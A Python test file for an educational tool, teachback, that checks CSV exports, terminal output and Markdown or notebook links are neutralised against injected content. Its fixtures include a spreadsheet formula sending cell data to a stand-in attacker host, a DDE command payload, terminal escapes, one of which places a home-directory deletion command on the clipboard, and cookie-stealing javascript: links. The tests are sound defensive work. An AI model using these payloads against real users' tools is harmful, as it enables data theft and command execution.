"""Probes: text from sources and learners injected into other tools -- a spreadsheet opening
the classroom report, the terminal running ``teachback learn``, a Markdown or notebook viewer
following a link in an export.
"""

from __future__ import annotations

import csv
import io
import json
import re

import nbformat
from click.testing import CliRunner
from markdown_it import MarkdownIt

from teachback.cli import cli
from teachback.curricula.export_markdown import render_markdown
from teachback.curricula.export_notebook import unit_notebook
from teachback.curricula.publish import publish
from teachback.neutralise import spreadsheet_cell, terminal_text, unsafe_url
from teachback.tests.session_fixture import build_fixture_curriculum
from teachback.tests.signin import PASSWORD, make_user
from teachback.tutor.classroom import report
from teachback.tutor.export_learners import mastery_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


def test_classroom_report_csv_cells_are_never_formulas():
    rows = [
        {
            "learner": name,
            "answers": 3,
            "correct": 2,
            "accuracy": 0.667,
            "mastered": 1,
            "of": 4,
            "position": "=cmd",
            "joined": "2026-12-06",
        }
        for name in FORMULAS
    ]
    parsed = list(csv.DictReader(io.StringIO(report.to_csv(rows, report.CSV_FIELDS))))
    assert [r["learner"] for r in parsed] == ["'" + name for name in FORMULAS]
    assert {r["position"] for r in parsed} == {"'=cmd"}
    assert (parsed[0]["answers"], parsed[0]["accuracy"]) == ("3", "0.667")  # numbers untouched


def test_learner_export_and_classroom_report_share_the_guard(db):
    build_fixture_curriculum(db, publish=True)
    db["learners"].insert({"id": "eve", "name": FORMULAS[0], "created_at": "2026-12-06"})
    db["attempts"].insert(
        {
            "event_id": "e1",
            "learner_id": "eve",
            "curriculum_id": "water",
            "exercise_id": "x",
            "concept_id": "water/evaporation",
            "correct": 1,
            "score": 1.0,
            "answer": "=1+1",
            "at": "2026-12-06T21:00:00+00:00",
        }
    )
    cells = [c for row in csv.reader(io.StringIO(mastery_csv(db, "water"))) for c in row]
    assert "'" + FORMULAS[0] in cells
    assert not [c for c in cells if c != spreadsheet_cell(c)]


HOSTILE = (
    "\x1b]0;pwned\x07"  # set the window title
    "\x1b]52;c;cm0gLXJmIH4=\x07"  # write the clipboard (OSC 52)
    "\x1b[2J\x1b[H"  # clear the screen, cursor home
    "\x1bP+q544e\x1b\\"  # a DCS request
    "\x9b31m"  # an 8-bit CSI
    "\r\x08\u202e"  # overwrite the line, backspace, right-to-left override
)


def test_terminal_text_drops_every_escape_and_control():
    assert terminal_text(f"Osmosis{HOSTILE} moves water.\n\tIndented.") == (
        "Osmosis moves water.\n\tIndented."
    )


def test_teachback_learn_prints_no_escape_sequence_from_sources(db):
    build_fixture_curriculum(db, "water")
    db.execute(
        "update concepts set name = ? || name, definition = ? || definition",
        [HOSTILE, HOSTILE],
    )
    db.execute("update lessons set text = ? || text", [HOSTILE])
    db.execute(
        "update exercises set prompt = ? || prompt, explanation = ? || coalesce(explanation, '')",
        [HOSTILE, HOSTILE],
    )
    db.execute("update exercises set choices = ? where choices is not null", [
        json.dumps([f"{HOSTILE}yes", f"{HOSTILE}no"])
    ])  # fmt: skip
    db.conn.commit()
    publish(db, "water", "fixture")
    db_file = db.execute("pragma database_list").fetchone()[2]
    make_user(db, "eve", name="Eve")
    args = ["learn", "--db", db_file, "--curriculum", "water", "--learner", "eve"]
    result = CliRunner().invoke(cli, args, input=f"{PASSWORD}\nh\n1\nh\n1\nq\n", color=True)
    assert result.exit_code == 0, result.output
    assert "pwned" not in result.output
    # What is left are click's own colour and bold styles (SGR: ESC [ digits m), nothing else.
    leftover = re.sub(r"\x1b\[[0-9;]*m", "", result.output)
    assert [c for c in leftover if ord(c) < 32 and c not in "\n\t"] == []
    assert not re.search("[\x7f-\x9f\u202a-\u202e\u2066-\u2069]", leftover)
    assert "Evaporation" in leftover  # the lesson itself is still shown


LINKS = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "jav&#x61;script:alert(1)",
    "javascript\\:alert(1)",
    "<java\tscript:alert(1)>",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]


def _hrefs(markdown: str) -> list[str]:
    """Every link and image target a permissive Markdown viewer would produce."""
    md = MarkdownIt("commonmark")
    md.validateLink = lambda url: True  # a viewer that trusts the file, as many do
    targets = []

    def walk(tokens):
        for t in tokens:
            if t.type in ("link_open", "image"):
                targets.append(t.attrGet("href") or t.attrGet("src") or "")
            walk(t.children or [])

    walk(md.parse(markdown))
    return targets


def _hostile_view(db) -> dict:
    from teachback.curricula.export_markdown import curriculum_data

    build_fixture_curriculum(db, publish=True)
    data = curriculum_data(db, "water")
    lesson_links = " ".join(f"[click {i}]({u})" for i, u in enumerate(LINKS))
    data["lessons"][0]["text"] += (
        f"\n\nSee {lesson_links} and ![img]({LINKS[-1]}).\n\n[r]: {LINKS[0]}\n[see][r]"
    )
    data["concepts"][0]["definition"] += f" [more]({LINKS[1]})"
    data["exercises"][0]["prompt"] += f" [hint]({LINKS[2]}) [safe](https://example.org/a_(b))"
    return data


def test_markdown_export_links_are_inert(db):
    text = render_markdown(_hostile_view(db))
    hrefs = _hrefs(text)
    assert len(hrefs) >= 10
    assert [h for h in hrefs if unsafe_url(h)] == []
    assert "https://example.org/a_(b)" in hrefs  # ordinary links are left alone


def test_notebook_export_links_are_inert(db):
    from teachback.curricula.export_markdown import grouped

    data = _hostile_view(db)
    hrefs = []
    for title, members in grouped(data):
        nb = unit_notebook(data, title, members)
        nbformat.validate(nb)
        for cell in nb.cells:
            hrefs += _hrefs(cell.source)
    assert len(hrefs) >= 10
    assert [h for h in hrefs if unsafe_url(h)] == []
